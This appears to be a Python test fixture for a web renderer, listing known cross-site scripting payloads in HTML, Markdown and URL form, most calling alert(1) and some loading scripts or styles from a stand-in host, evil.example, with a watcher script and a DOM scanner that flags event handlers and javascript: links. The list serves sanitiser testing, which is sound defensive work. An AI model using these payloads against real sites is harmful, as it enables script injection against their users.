"""What attackers write, in the shapes that are publicly known: each one calls `alert` if it ever runs."""

from __future__ import annotations

#: The shapes of scripts, of elements and attributes that run something, and of ways out of where a text stands.
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    '<p style="position:fixed;inset:0;background:red">x</p>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)' x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a id=comments-title name=comment-form>x</a><img name=body>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202e<img src=x onerror=alert(1)>\u202d",
    "\ufeff<script\u2028>alert(1)</script>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)

#: What a link may be made of, in Markdown.
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://a.example "onmouseover=alert(1) \\"")',
    '[x](https://a.example/"onmouseover=alert(1))',
    '![x](x"onerror="alert(1))',
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "https://a.example/<script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
)

#: Addresses where a website or a picture is asked for.
ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//https://a.example",
    "data:text/html,<script>alert(1)</script>",
    'https://a.example/" onmouseover="alert(1)',
    "https://a.example/' onmouseover='alert(1)",
    "https://a.example/<script>alert(1)</script>",
)

EVERYTHING = MARKUP + MARKDOWN + ADDRESSES

#: Runs ahead of every page: says aloud when something runs, or when only the page's policy kept it from running.
WATCH = """
window.alert = () => console.log("hostile: ran");
document.addEventListener("securitypolicyviolation", (event) => console.log("hostile: stopped", event.blockedURI));
"""

#: What no page may hold, whatever was written: returns what it found.
LOOK = """() => {
  const found = [];
  for (const one of document.querySelectorAll("*")) {
    const name = one.localName;
    const ours = one.closest(".body, blockquote, bdi, .text, .note, .card") === null;
    if (["iframe", "object", "embed", "video", "audio", "math"].includes(name)) found.push(one.outerHTML);
    if (["script", "style", "meta", "base", "form", "img"].includes(name) && !ours) found.push(one.outerHTML);
    for (const { name: attribute, value } of one.attributes) {
      if (attribute.startsWith("on")) found.push(one.outerHTML);
      if (attribute === "style" && location.protocol.startsWith("http") && !ours) found.push(one.outerHTML);
      const leads = ["href", "src", "action", "formaction"].includes(attribute);
      if (leads && /^\\s*(javascript|data|vbscript):/i.test(value)) found.push(one.outerHTML);
    }
  }
  return found;
}"""
